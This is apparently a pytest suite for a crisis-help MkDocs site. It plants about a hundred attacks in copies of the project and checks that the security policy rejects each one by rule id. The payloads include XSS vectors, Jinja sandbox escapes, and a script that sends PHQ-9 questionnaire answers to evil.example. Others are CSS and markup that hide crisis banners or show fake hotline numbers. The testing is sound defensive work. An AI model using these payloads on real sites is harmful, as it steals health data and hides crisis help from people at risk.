"""Planted attacks: each edit a careless or hostile contributor could make must fail `make build`
AND `make check`, each naming the attack's own file and rule id on one line (issues 12 and 20).

Fast: attacks are planted many to a copy of the project. Every attack on page text gets a
page of its own (docs/attacks/<name>.md, outside the nav), every planted file its own
name, and attacks on one shared file (hub.css, mkdocs.yml) a `needle` only they print, so
one build names each of them apart: the policy reports every problem, never only the
first. Attacks that stop the build before pages are written (symlinks, mkdocs.yml) or that
change the whole site (no hook) have copies of their own. Each copy runs `make build` and
`make check` once, two copies at a time; the copy's Python imports ITS OWN macros/ and
tools/ (PYTHONPATH is the copy; make uses the project's .venv only for its programs), so an
attack on code or data tests the copy's files (test_each_copy_imports_its_own_code).

`ATTACKS` holds the attacks of issue 12 and those issue 20 names; `VARIANTS` the new
variants written for issue 20 (at least 30).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import time
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tools.site import ROOT, copy_project

# Every test here reads the one `results` fixture: they run on one pytest worker (--dist loadgroup).
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("attacks")]

STEAL = (
    "document.addEventListener('change',function(){var a=[].map.call(document.querySelectorAll('input:checked'),"
    "function(i){return i.value});fetch('https://evil.example/c?a='+a.join(','),{mode:'no-cors'});"
    "new Image().src='https://evil.example/i?a='+a.join(',')})"
)
SW = "self.addEventListener('fetch',function(e){e.respondWith(new Response('<a href=\"tel:1900555\">Call</a>'))})"
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="1" height="1"/></svg>'
HUB_CSS = "docs/stylesheets/hub.css"


@dataclass(frozen=True)
class Attack:
    text: str = ""  # the body of the attack's own page (docs/attacks/<name>.md)
    expect: str = ""  # the rule id the output must print
    meta: dict[str, str] = field(default_factory=dict)  # front matter lines of that page (raw YAML values)
    page: str | None = None  # append `text` to this existing page instead
    files: dict[str, str] = field(default_factory=dict)  # files to write
    append: dict[str, str] = field(default_factory=dict)  # text appended to existing files
    links: dict[str, str] = field(default_factory=dict)  # symlink path -> target ("{tmp}" = outside folder)
    redirects: dict[str, str] = field(default_factory=dict)  # mkdocs.yml redirect_maps entries
    scripts: tuple[str, ...] = ()  # mkdocs.yml extra_javascript entries
    config: tuple[str, str] | None = None  # (old, new) text in mkdocs.yml
    names: str | None = None  # the file the line must name (default: the attack's page)
    needle: str = ""  # text the same line must hold (attacks sharing one file)
    group: str = "pages"  # attacks of one group share a copy


def page_of(name: str, attack: Attack) -> str:
    return attack.page or f"docs/attacks/{name}.md"


def named(name: str, attack: Attack) -> str:
    return attack.names or page_of(name, attack)


ATTACKS: dict[str, Attack] = {
    # ── Issue 12: scripts a line-by-line reading of the Markdown misses
    "script-assembled-in-jinja": Attack('{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}', "SEC101"),
    "script-after-unclosed-fence": Attack("```\n<script>alert(1)</script>\n", "SEC101"),
    "script-between-escaped-backticks": Attack("\\`<script>alert(1)</script>\\`", "SEC101"),
    "script-after-empty-comment": Attack("<!--><script>alert(1)</script>", "SEC101"),
    "script-after-bang-comment-end": Attack("<!-- note --!><script>alert(1)</script>", "SEC101"),
    "script-excused-by-allow-comment": Attack("<script>alert(1)</script> <!-- allow SEC001: reviewed -->", "SEC101"),
    "svg-with-script": Attack("<svg><script>alert(1)</script></svg>", "SEC101"),
    "planted-file-copies-phq9-answers": Attack(
        '<script src="../../javascripts/steal.js"></script>', "SEC101", files={"docs/javascripts/steal.js": STEAL}
    ),
    "inline-script-copies-phq9-answers": Attack(f"<script>{STEAL}</script>", "SEC101"),
    "outside-script": Attack('<script src="https://evil.example/x.js"></script>', "SEC101"),
    "html-in-front-matter-description": Attack(
        "Text.", "SEC101", meta={"description": '\'x"><script>alert(1)</script><meta name="x" content="\''}
    ),
    "html-in-front-matter-title": Attack(
        "Text.", "SEC102", meta={"title": '"<img src=x onerror=alert(1)><script>alert(1)</script>"'}
    ),
    "event-handler-on-next-line": Attack('<a href="../../glossary/"\nonmouseover="alert(1)">Glossary</a>', "SEC102"),
    "event-handler-in-attr-list": Attack('Read this.\n{ onclick="alert(1)" }', "SEC102"),
    "svg-onload": Attack('<svg onload="alert(1)"></svg>', "SEC102"),
    "img-onerror": Attack('<img src="x.png" alt="" onerror="alert(1)">', "SEC102"),
    "entity-encoded-javascript-link": Attack('<a href="&#106;avascript:alert(1)">Help</a>', "SEC103"),
    "tab-in-javascript-scheme": Attack('<a href="java&#x09;script:alert(1)">Help</a>', "SEC103"),
    "javascript-href-in-attr-list": Attack('[Help](../get-help-now.md){ href="javascript:alert(1)" }', "SEC103"),
    "vbscript-link": Attack('<a href="vbscript:msgbox(1)">Help</a>', "SEC103"),
    "data-url-link": Attack('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Help</a>', "SEC103"),
    "data-url-image": Attack('<img alt="" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "SEC103"),
    "svg-xlink-javascript": Attack('<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>', "SEC103"),
    "base-href": Attack('<base href="https://evil.example/">', "SEC104"),
    "iframe": Attack('<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>', "SEC104"),
    "object": Attack('<object data="https://evil.example/x.pdf"></object>', "SEC104"),
    "embed": Attack('<embed src="https://evil.example/x.swf">', "SEC104"),
    "math-href": Attack('<math href="javascript:alert(1)"><mi>x</mi></math>', "SEC105"),
    "svg-animate-to-javascript": Attack(
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><path d="M0 0"/></a></svg>', "SEC105"
    ),
    "noscript-tracker": Attack('<noscript><img alt="" src="https://evil.example/t.png"></noscript>', "SEC105"),
    "meta-refresh": Attack('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "SEC106"),
    "meta-referrer-unsafe-url": Attack('<meta name="referrer" content="unsafe-url">', "SEC106"),
    "outside-stylesheet-link": Attack('<link rel="stylesheet" href="https://evil.example/x.css">', "SEC106"),
    "form-with-action": Attack(
        '<form action="https://evil.example/"><input name="q"><button>Send</button></form>', "SEC107"
    ),
    "button-formaction": Attack('<button formaction="https://evil.example/">Send</button>', "SEC107"),
    "outside-image": Attack('<img alt="" src="https://evil.example/t.png">', "SEC108"),
    "outside-image-markdown": Attack("![](https://evil.example/t.png)", "SEC108"),
    "outside-srcset": Attack('<img alt="" src="x.png" srcset="x.png 1x, https://evil.example/t.png 2x">', "SEC108"),
    "backslash-host-image": Attack('<img alt="" src="/\\evil.example/t.png">', "SEC108"),
    "video-poster": Attack('<video poster="https://evil.example/p.png"></video>', "SEC108"),
    "audio-src": Attack('<audio src="https://evil.example/a.mp3"></audio>', "SEC108"),
    "picture-source": Attack(
        '<picture><source srcset="https://evil.example/t.png"><img alt="" src="x.png"></picture>', "SEC108"
    ),
    "video-track": Attack('<video><track src="https://evil.example/t.vtt"></video>', "SEC108"),
    "link-ping": Attack('<a href="../../glossary/" ping="https://evil.example/p">Glossary</a>', "SEC108"),
    "inline-style-url": Attack('<p style="background:url(https://evil.example/t.png)">x</p>', "SEC110"),
    "style-import": Attack("<style>@import url(https://evil.example/x.css);</style>", "SEC110"),
    "style-covers-banner": Attack(
        '<div style="position:fixed;top:0;left:0;right:0;height:12em;background:#fff;z-index:99">Welcome</div>',
        "SEC109",
    ),
    "style-in-attr-list": Attack('Welcome.\n{ style="position:fixed;top:0;left:0;right:0;height:12em" }', "SEC109"),
    "style-element-hides-banner": Attack("<style>.md-banner{display:none}</style>", "SEC109"),
    "tabnabbing-target-blank": Attack('[Help](https://evil.example/){ target="_blank" }', "SEC111"),
    "fake-banner-component": Attack('<div data-md-component="announce">All is well</div>', "SEC113"),
    "symlink-to-private-file": Attack(
        "", "SEC114", links={"docs/notes.md": "/etc/hostname"}, names="docs/notes.md", group="files"
    ),
    # make check names the folder's file that would be published (SEC115), make build the link (SEC114)
    "symlink-to-outside-folder": Attack(
        "", "SEC11[45]", links={"docs/private": "{tmp}"}, names="docs/private", group="files"
    ),
    "jinja-cycler-globals": Attack("{{ cycler.__init__.__globals__ }}", "SEC116"),
    "jinja-class-mro": Attack("{{ ''.__class__.__mro__[1].__subclasses__() }}", "SEC116"),
    "jinja-template-reference-context": Attack("{{ self._TemplateReference__context }}", "SEC116"),
    "jinja-theme-environment": Attack("{{ config.theme.get_env().from_string('{{ 7*7 }}').render() }}", "SEC116"),
    "jinja-plugin-on-config": Attack("{{ config.plugins.macros.on_config(config) }}", "SEC116"),
    "jinja-rewrite-banner-data": Attack("{{ config.extra.crisis.update({'call': '555'}) }}", "SEC116"),
    # ── Issue 20, 1: files the policy never checked
    "svg-file-with-script": Attack(
        "", "SEC120", files={"docs/assets/badge.svg": SVG_SCRIPT}, names="docs/assets/badge.svg"
    ),
    # docs/sw.js is the hub's own reviewed worker: an attacker's is another file.
    "service-worker-file": Attack("", "SEC123", files={"docs/worker.js": SW}, names="docs/worker.js"),
    "search-terms-markup": Attack(
        "Text.", "SEC121", meta={"search_terms": "['<img src=x onerror=\"location=1\">suicide']"}
    ),
    "redirect-target-unescaped": Attack(
        "",
        "SEC118",
        redirects={"moved-a.md": 'faq.md"+alert(1)+"'},
        names="mkdocs.yml",
        needle="moved-a.md",
        group="config",
    ),
    "redirect-external": Attack(
        "",
        "SEC118",
        redirects={"moved-b.md": "https://evil.example/"},
        names="mkdocs.yml",
        needle="moved-b.md",
        group="config",
    ),
    "raw-html-file": Attack(
        "",
        "SEC112",
        files={"docs/offer.html": "<!doctype html><title>Offer</title><p>Call 1-900-555-0100</p>"},
        names="docs/offer.html",
    ),
    # ── Issue 20, 2: legitimate vocabulary against the banner
    "theme-consent-class-fake-bar": Attack(
        '<div class="md-consent__inner" markdown>Lifeline is busy, call our partner line</div>', "SEC128"
    ),
    "theme-header-class-covers-help-link": Attack("Welcome.\n{ .md-header }", "SEC128"),
    "popover-covers-screen": Attack('<div popover="manual" id="pop">Lifeline is busy</div>', "SEC129"),
    "opened-details-as-dialog": Attack(
        '<details class="md-dialog" open><summary>Read</summary>Lifeline is busy</details>', "SEC128"
    ),
    "hidden-around-crisis-directory": Attack("<div hidden markdown>\n\n{{ crisis_lines() }}\n\n</div>", "SEC130"),
    "early-article-end-before-fake-banner": Attack(
        '</article><div data-md-component="announce">All is well</div>', "SEC131"
    ),
    "abbreviation-fake-number": Attack(
        "Call the Lifeline.\n\n*[Lifeline]: Lifeline is busy: call 1-900-555-0100", "SEC125"
    ),
    "duplicate-id-takes-crisis-anchor": Attack(
        '\n<h2 id="crisis-lines-by-country">Our partner line</h2>\n\nCall our partner line.\n',
        "SEC126",
        page="docs/get-help-now.md",
        needle="crisis-lines-by-country",
    ),
    # ── Issue 20, 3: crisis routes compared with the data
    "tel-button-dials-another-number": Attack(
        "\n[Call 988](tel:898){ .md-button }\n", "SEC124", page="docs/get-help-now.md", needle="tel:898"
    ),
    # ── Issue 20, 4: hub.css
    "css-media-query-hides-banner-buttons": Attack(
        append={
            HUB_CSS: "\n@media (min-width: 368px) and (max-width: 1219px) { .trd-crisis__actions a { display: none } }\n"
        },
        expect="SEC133",
        names=HUB_CSS,
        needle=".trd-crisis__actions a",
    ),
    "css-has-item9-hides-crisis-help": Attack(
        append={
            HUB_CSS: '\nbody:has(input[value="3"]:checked) :is(.md-banner, .trd-help-link, .phq9__routes) { visibility: hidden }\n'
        },
        expect="SEC133",
        names=HUB_CSS,
        needle="body:has(",
    ),
    # ── Issue 20, 5: mkdocs.yml is code
    "hook-entry-deleted": Attack(
        "", "SEC117", config=("hooks:\n  - tools/mkdocs_hooks.py\n", ""), names="mkdocs.yml", group="no-hook"
    ),
    "extra-javascript-unreviewed": Attack(
        "",
        "SEC119",
        scripts=("javascripts/answers.js",),
        files={"docs/javascripts/answers.js": STEAL},
        names="mkdocs.yml",
        needle="answers.js",
        group="config",
    ),
}

VARIANTS: dict[str, Attack] = {
    # Published files
    "svg-file-onload": Attack(
        "",
        "SEC120",
        files={"docs/assets/logo2.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'},
        names="docs/assets/logo2.svg",
    ),
    "svg-file-foreign-object-html": Attack(
        "",
        "SEC120",
        names="docs/assets/card.svg",
        files={
            "docs/assets/card.svg": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
            '<div xmlns="http://www.w3.org/1999/xhtml"><a href="tel:1900555">Call</a></div></foreignObject></svg>'
        },
    ),
    "svg-file-outside-image": Attack(
        "",
        "SEC120",
        names="docs/assets/chart.svg",
        files={
            "docs/assets/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/t.png"/></svg>'
        },
    ),
    "svg-file-set-href": Attack(
        "",
        "SEC120",
        names="docs/assets/icon.svg",
        files={
            "docs/assets/icon.svg": '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
            'to="javascript:alert(1)"/><rect width="9" height="9"/></a></svg>'
        },
    ),
    "svg-file-entity-doctype": Attack(
        "",
        "SEC120",
        names="docs/assets/entity.svg",
        files={"docs/assets/entity.svg": '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"/>'},
    ),
    "service-worker-registration-script": Attack(
        "",
        "SEC123",
        names="docs/javascripts/register.js",
        files={"docs/javascripts/register.js": "navigator.serviceWorker.register('/sw2.js')"},
    ),
    "unreviewed-script-file-alone": Attack(
        "", "SEC119", files={"docs/javascripts/helper.js": STEAL}, names="docs/javascripts/helper.js"
    ),
    "reviewed-script-edited": Attack(
        "", "SEC119", append={"docs/javascripts/tables.js": f"\n{STEAL}\n"}, names="docs/javascripts/tables.js"
    ),
    "search-tags-markup": Attack("Text.", "SEC121", meta={"tags": "['<b onmouseover=alert(1)>x</b>']"}),
    "raw-html-with-copied-csp": Attack(
        "",
        "SEC132",
        names="docs/promo.html",
        files={
            "docs/promo.html": '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" '
            'content="default-src \'self\'"><meta name="referrer" content="no-referrer"><meta charset="utf-8">'
            "<title>x</title></head><body><p>Call our partner line</p></body></html>"
        },
    ),
    "xhtml-file": Attack(
        "",
        "SEC122",
        names="docs/page.xhtml",
        files={"docs/page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'},
    ),
    "xml-stylesheet-file": Attack(
        "", "SEC122", names="docs/feed.xml", files={"docs/feed.xml": '<?xml-stylesheet href="x.xsl"?><feed/>'}
    ),
    "module-script-file": Attack(
        "", "SEC122", names="docs/javascripts/mod.mjs", files={"docs/javascripts/mod.mjs": STEAL}
    ),
    "manifest-json-file": Attack(
        "", "SEC122", names="docs/manifest.json", files={"docs/manifest.json": '{"name": "x"}'}
    ),
    # Page text borrowing the theme's layout
    "theme-banner-class": Attack('<div class="md-banner" markdown>All lines are busy</div>', "SEC128"),
    "crisis-banner-class-fake": Attack('<p class="trd-crisis__message">All lines are busy</p>', "SEC128"),
    "theme-dialog-class-attr-list": Attack("All lines are busy.\n{ .md-dialog }", "SEC128"),
    "inert-attribute": Attack("<div inert markdown>Text</div>", "SEC129"),
    "autofocus-attribute": Attack('<input autofocus aria-label="x">', "SEC129"),
    "role-dialog": Attack('<div role="dialog" markdown>Lifeline is busy</div>', "SEC129"),
    "positive-tabindex": Attack('[Our partner line](https://evil.example/){ tabindex="1" }', "SEC127"),
    "aria-hidden-around-crisis-link": Attack(
        '<div aria-hidden="true" markdown>\n\n[Call 988](tel:988)\n\n</div>', "SEC130"
    ),
    "closed-details-around-crisis-link": Attack('??? note "More"\n\n    [Call 988](tel:988)\n', "SEC130"),
    "screen-reader-only-crisis-link": Attack('<span class="md-sr-only">[Call 988](tel:988)</span>', "SEC130"),
    "early-main-end": Attack("</main><p>Outside</p>", "SEC131"),
    "extra-div-end": Attack("</div></div><p>Outside</p>", "SEC131"),
    "duplicate-id-new-page": Attack("## One { #same }\n\n## Two { #same }\n", "SEC126"),
    "title-attribute-fake-number": Attack('[Lifeline](../faq.md){ title="Busy? Call 1-900-555-0100" }', "SEC125"),
    # Crisis links and the data
    "tel-text-shows-another-number": Attack("[Call 898](tel:988)", "SEC124"),
    "tel-number-not-in-data": Attack("[Call 555-0100](tel:5550100)", "SEC124"),
    "sms-keyword-not-in-data": Attack("[Text WIN to 741741](sms:741741?&body=WIN)", "SEC124"),
    "tel-aria-label-other-number": Attack('[Call 988](tel:988){ aria-label="Call 898" }', "SEC124"),
    "tel-text-adds-a-second-number": Attack("[Call 988 or 1-900-555-0100](tel:988)", "SEC124"),
    "tel-with-extra-parts": Attack("[Call 988](tel:988?call=898)", "SEC124"),
    # hub.css
    "css-phq9-alert-hidden-when-shown": Attack(
        append={HUB_CSS: "\n.phq9__alert:not([hidden]) { display: none }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle=".phq9__alert:not(",
    ),
    "css-fixed-overlay-from-content": Attack(
        append={HUB_CSS: "\n.md-typeset .admonition.quote { position: fixed; top: 0; left: 0; right: 0 }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle=".admonition.quote",
    ),
    "css-transform-moves-banner": Attack(
        append={HUB_CSS: "\naside.md-banner { transform: translateY(-100%) }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle="aside.md-banner",
    ),
    "css-body-opacity": Attack(
        append={HUB_CSS: "\nhtml > body { opacity: 0.02 }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle="html > body",
    ),
    "css-tel-links-font-size-zero": Attack(
        append={HUB_CSS: '\n.md-typeset a[href^="tel:"] { font-size: 0 }\n'},
        expect="SEC133",
        names=HUB_CSS,
        needle='a[href^="tel:"]',
    ),
    "css-help-link-clipped-on-hover-of-body": Attack(
        append={HUB_CSS: "\nbody:hover .md-header__inner > a { clip-path: inset(50%) }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle=".md-header__inner > a",
    ),
    "css-print-hides-banner": Attack(
        append={HUB_CSS: "\n@media print { div[data-md-component] { display: none !important } }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle="div[data-md-component]",
    ),
    "css-banner-text-transparent": Attack(
        append={HUB_CSS: "\n.md-grid .trd-crisis strong { color: transparent }\n"},
        expect="SEC133",
        names=HUB_CSS,
        needle=".md-grid .trd-crisis strong",
    ),
    "css-reviewed-block-edited": Attack(
        append={},
        expect="SEC134",
        names=HUB_CSS,
        needle="crisis-banner",
        config=None,
        files={},
        group="pages",
        text="",
    ),
    # mkdocs.yml
    "redirect-javascript-target": Attack(
        "",
        "SEC118",
        redirects={"moved-c.md": "javascript:alert(1)"},
        names="mkdocs.yml",
        needle="moved-c.md",
        group="config",
    ),
    "redirect-to-missing-page": Attack(
        "", "SEC118", redirects={"moved-d.md": "nowhere.md"}, names="mkdocs.yml", needle="moved-d.md", group="config"
    ),
    "redirect-climbs-out-of-docs": Attack(
        "", "SEC118", redirects={"moved-e.md": "../README.md"}, names="mkdocs.yml", needle="moved-e.md", group="config"
    ),
    "page-script-unreviewed": Attack(
        "",
        "SEC119",
        config=(
            "    data-phq9: javascripts/phq9.js\n",
            "    data-phq9: javascripts/phq9.js\n    data-x: javascripts/extra.js\n",
        ),
        files={"docs/javascripts/extra.js": STEAL},
        names="mkdocs.yml",
        needle="extra.js",
        group="config",
    ),
}

ALL = {**ATTACKS, **VARIANTS}
# The edited reviewed block: a rule slipped into the banner's own block.
BLOCK_EDIT = (
    ".trd-help-link:hover, .trd-help-link:focus { text-decoration: underline; }\n",
    ".trd-help-link:hover, .trd-help-link:focus { text-decoration: underline; }\n.md-banner { display: none }\n",
)
PAGE_GROUPS = 1  # copies for the attacks on pages and files (they do not mask each other)


def groups() -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    pages = [name for name, attack in ALL.items() if attack.group == "pages"]
    for index, name in enumerate(pages):
        found.setdefault(f"pages-{index % PAGE_GROUPS}", []).append(name)
    for name, attack in ALL.items():
        if attack.group != "pages":
            found.setdefault(attack.group, []).append(name)
    return found


def _front_matter(name: str, meta: dict[str, str]) -> str:
    fields = {"title": f'"Attack {name}"', "description": '"A planted attack."', **meta}
    return "---\n" + "".join(f"{key}: {value}\n" for key, value in fields.items()) + "---\n"


def plant(project: Path, names: Iterable[str], outside: Path) -> None:
    """Make every named attack's edit in one copy of the project."""
    new_pages, redirects, scripts = [], {}, []
    mkdocs = project / "mkdocs.yml"
    config = mkdocs.read_text(encoding="utf-8")
    for name in names:
        attack = ALL[name]
        if attack.page:
            page = project / attack.page
            page.write_text(page.read_text(encoding="utf-8") + "\n" + attack.text + "\n", encoding="utf-8")
        elif attack.text or attack.meta:
            page = project / page_of(name, attack)
            page.parent.mkdir(parents=True, exist_ok=True)
            page.write_text(f"{_front_matter(name, attack.meta)}\n# Attack\n\n{attack.text}\n", encoding="utf-8")
            new_pages.append(page_of(name, attack).removeprefix("docs/"))
        for path, content in attack.files.items():
            (project / path).parent.mkdir(parents=True, exist_ok=True)
            (project / path).write_text(content, encoding="utf-8")
        for path, content in attack.append.items():
            (project / path).write_text((project / path).read_text(encoding="utf-8") + content, encoding="utf-8")
        if name == "css-reviewed-block-edited":
            css = project / HUB_CSS
            css.write_text(css.read_text(encoding="utf-8").replace(*BLOCK_EDIT), encoding="utf-8")
        for path, target in attack.links.items():
            if target == "{tmp}":
                outside.mkdir(exist_ok=True)
                (outside / "diary.md").write_text("# Private\n", encoding="utf-8")
                target = str(outside)
            os.symlink(target, project / path)
        redirects.update(attack.redirects)
        scripts.extend(attack.scripts)
        if attack.config:
            assert attack.config[0] in config, f"{name}: {attack.config[0]!r} is not in mkdocs.yml"
            config = config.replace(*attack.config)
    if redirects:
        lines = "".join(f"        {json.dumps(old)}: {json.dumps(new)}\n" for old, new in redirects.items())
        config = config.replace("      redirect_maps: {}\n", f"      redirect_maps:\n{lines}")
    if scripts:
        config = config.replace("extra_javascript:\n", "extra_javascript:\n" + "".join(f"  - {s}\n" for s in scripts))
    # The attack pages stay out of the nav: a title attack there would be on every page.
    mkdocs.write_text(config, encoding="utf-8")


def environment(project: Path) -> dict[str, str]:
    """The copy's own code first: PYTHONPATH is the copy, never the original checkout."""
    return {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(project), "PYTHONDONTWRITEBYTECODE": "1"}


def run_make(project: Path, target: str) -> subprocess.CompletedProcess[str]:
    venv = ROOT / ".venv"
    return subprocess.run(
        ["make", "--no-print-directory", f"VENV={venv}", "-o", f"{venv}/.installed", target],
        cwd=project,
        capture_output=True,
        text=True,
        env=environment(project),
        timeout=600,
    )


def _copy(base: Path, group: str, names: list[str]) -> dict[str, subprocess.CompletedProcess[str]]:
    project = copy_project(base / group / "project")
    plant(project, names, base / group / "outside")
    return {target: run_make(project, target) for target in ("build", "check")}


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, subprocess.CompletedProcess[str]]]:
    """Every group built in its own copy, two copies at a time; prints how long it took."""
    base = tmp_path_factory.mktemp("attacks")
    started = time.perf_counter()
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {group: pool.submit(_copy, base, group, names) for group, names in groups().items()}
        done = {group: future.result() for group, future in futures.items()}
    print(f"\n{len(ALL)} attacks in {len(done)} copies: {time.perf_counter() - started:.0f} s")
    return done


def group_of(name: str) -> str:
    return next(group for group, names in groups().items() if name in names)


def _named_line(output: str, name: str, attack: Attack) -> str | None:
    """The output line that names the attack's file, its rule (and its needle)."""
    shown = named(name, attack).removeprefix("docs/")
    for line in output.splitlines():
        if shown in line and re.search(rf"\b{attack.expect}\b", line) and attack.needle in line:
            return line
    return None


def _assert_refused(results, name: str, target: str) -> None:
    attack = ALL[name]
    result = results[group_of(name)][target]
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"{name}: `make {target}` passed with the attack planted:\n{output[-3000:]}"
    assert _named_line(output, name, attack), (
        f"{name}: `make {target}` printed no line naming {named(name, attack)} with {attack.expect}"
        f"{' and ' + repr(attack.needle) if attack.needle else ''}:\n{output[-4000:]}"
    )


@pytest.mark.parametrize("name", ALL, ids=list(ALL))
def test_attack_fails_make_build_naming_file_and_rule(name: str, results) -> None:
    _assert_refused(results, name, "build")


@pytest.mark.parametrize("name", ALL, ids=list(ALL))
def test_attack_fails_make_check_naming_file_and_rule(name: str, results) -> None:
    _assert_refused(results, name, "check")


def test_the_tests_sharing_the_copies_run_on_one_worker(request: pytest.FixtureRequest) -> None:
    """Under `make test` (pytest-xdist, --dist loadgroup) every test here must carry its group,
    so one worker sets up `results` once. With pytest 9.2, pytest-xdist 3.8.0 dropped the group
    silently (its issue 1386) and each worker planted, built and checked every copy again."""
    if getattr(request.config.option, "loadgroup", False):  # a pytest-xdist worker of --dist loadgroup
        assert request.node.nodeid.endswith("@attacks"), f"{request.node.nodeid}: xdist_group is ignored"


def test_there_are_the_named_attacks_and_thirty_new_variants() -> None:
    assert len(ATTACKS) >= 59 + 18
    assert len(VARIANTS) >= 30


def test_attacks_sharing_a_file_print_lines_only_they_print() -> None:
    """Two attacks on one file in one copy must be told apart by rule or needle."""
    for names in groups().values():
        seen: dict[tuple[str, str, str], str] = {}
        for name in names:
            attack = ALL[name]
            key = (named(name, attack), attack.expect, attack.needle)
            assert key not in seen, f"{name} and {seen[key]} print the same line: give one a needle"
            seen[key] = name


def test_each_copy_imports_its_own_code(tmp_path: Path) -> None:
    """A copy's make imports the copy's macros/ and tools/, not the original checkout's."""
    project = copy_project(tmp_path / "project")
    venv = ROOT / ".venv"
    result = subprocess.run(
        [
            str(venv / "bin" / "python"),
            "-c",
            "import macros, tools.policy; print(macros.__file__); print(tools.policy.__file__)",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=environment(project),
        check=True,
    )
    for line in result.stdout.split():
        assert Path(line).resolve().is_relative_to(project.resolve()), line


def test_real_site_passes_the_policy_cli(site_dir: Path) -> None:
    """`python -m tools.policy` (for other engines' builds) agrees with the build hook."""
    result = subprocess.run(
        [str(ROOT / ".venv" / "bin" / "python"), "-m", "tools.policy", str(site_dir)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0 security policy violations" in result.stdout
